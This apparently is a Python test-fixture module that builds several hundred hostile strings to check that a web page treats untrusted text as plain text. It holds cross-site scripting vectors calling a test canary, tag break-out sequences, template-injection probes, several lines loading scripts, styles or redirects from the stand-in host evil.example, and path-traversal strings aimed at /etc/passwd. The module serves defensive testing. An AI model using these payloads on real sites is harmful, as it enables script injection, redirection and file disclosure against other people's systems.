"""Texts that would run, fetch or break something if a page took them for anything but text."""

# ruff: noqa: E501, F541, Q003
from __future__ import annotations

import itertools
from typing import Final

from tests.hostile.characters import SEQUENCES

_CALL: Final = "canary()"

_EXECUTE: Final = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    f"<script/x>{_CALL}</script >",
    f"<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_CALL}>",
    f"<IMG SRC=x ONERROR='{_CALL}'>",
    f"<img/src=x/onerror={_CALL}//",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src onerror={_CALL}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{_CALL}'>x</math>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<input autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<form action='javascript:{_CALL}'><button>x</button></form>",
    "<base href=https://evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none;background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<textarea></textarea><img src=x onerror={_CALL}>",
    f"<x onclick={_CALL} onmouseover={_CALL} onpointerenter={_CALL} tabindex=1>x</x>",
    f"<portal src='javascript:{_CALL}'></portal>",
)

_BREAK_OUT: Final = (
    "", "</script>", "</SCRIPT\t>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "-->", "--!>",
    "<!--", "<!--<script>", "]]>", "<![CDATA[", '">', "'>", "`>", "' ", '" ', '"};', "'};", "\\\";", "\\';", "*/", "\n",
    "\u2028", "\u2029", "<!DOCTYPE html>", "<?xml?>", "%3C/script%3E", "&lt;/script&gt;", "\x00",
)  # fmt: skip

_ALONE: Final = (
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f"java\tscript:{_CALL}", f"\x01javascript:{_CALL}",
    f"data:text/html,<script>{_CALL}</script>", f"vbscript:{_CALL}", f"view-source:javascript:{_CALL}",
    f"' onmouseover='{_CALL}", f'" onfocus="{_CALL}" autofocus="', f"` onerror={_CALL} `", f"x onerror={_CALL}",
    f"${{{_CALL}}}", f"`${{{_CALL}}}`", f"{{{{{_CALL}}}}}", "{{ 7*7 }}", "{% raw %}{{ x }}{% endraw %}", "{% endblock %}", "{#",
    f"{{{{constructor.constructor('{_CALL}')()}}}}", "__proto__", "constructor", "prototype", "toString", "hasOwnProperty",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=canary()&#x3e;", "&NewLine;&Tab;&quot;&apos;", "&amp;lt;",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e", "\\x3cscript\\x3e", "\\", "\\\\", "\\'", '\\"', "\\u2028",
    "expression(canary())", "url(javascript:canary())", "\\6a avascript:canary()", "};*{display:none}/*", "</style",
    "<", ">", "&", '"', "'", "`", "=", "/", "//evil.example/x.png", "https://evil.example/x.png", "file:///etc/passwd",
    "../../../../etc/passwd", "x" * 10_000, "<b>" * 3_000, "&" * 3_000, "\u0301" * 2_000, "<" + "a" * 9_999, "\ufffd",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-", "\uff1cscript\uff1ecanary()\uff1c/script\uff1e", "%00", "%0d%0a", "null",
    "true", "NaN", "[object Object]", "0", "-1", "=HYPERLINK(1)", "\ud83d", "\udc00", "a\ud83d\ud83db", "\u202e<script>",
)  # fmt: skip

PAYLOADS: Final = tuple(
    dict.fromkeys(
        [
            *_ALONE,
            *_EXECUTE,
            *(out + run for out, run in itertools.product(_BREAK_OUT, (_EXECUTE[0], _EXECUTE[4], _EXECUTE[7]))),
            *SEQUENCES.values(),
        ]
    )
)
"""Several hundred; ``canary`` is a function that the tests put on the page."""
